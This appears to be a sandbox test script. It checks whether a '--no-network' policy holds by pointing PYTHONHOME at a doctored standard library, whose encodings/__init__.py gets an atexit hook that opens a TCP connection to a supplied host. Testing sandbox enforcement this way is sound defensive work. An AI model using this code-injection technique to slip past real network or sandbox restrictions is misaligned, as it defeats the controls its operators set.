# policy: --no-network
# evidence: heard tcp
# args: {host} {port}
# silent: the child may fail to start at all

# PYTHONHOME gives the child another standard library, whose code runs first.
import os
import shutil
import subprocess
import sys
import sysconfig

connect = "import socket, sys; socket.create_connection((sys.argv[1], int(sys.argv[2])), 5)"
home = os.path.abspath("home")
version = f"python{sys.version_info.major}.{sys.version_info.minor}"
os.makedirs(f"{home}/lib/{version}")
library = sysconfig.get_path("stdlib")
for name in os.listdir(library):
    if name != "encodings":
        os.symlink(f"{library}/{name}", f"{home}/lib/{version}/{name}")
shutil.copytree(f"{library}/encodings", f"{home}/lib/{version}/encodings")
with open(f"{home}/lib/{version}/encodings/__init__.py", "a") as file:
    file.write(
        f"\ndef attack():\n    import socket\n    socket.create_connection({(sys.argv[1], int(sys.argv[2]))!r})\nimport atexit\natexit.register(attack)\n"
    )
subprocess.run([sys.executable, "-c", "pass"], env={"PYTHONHOME": home})
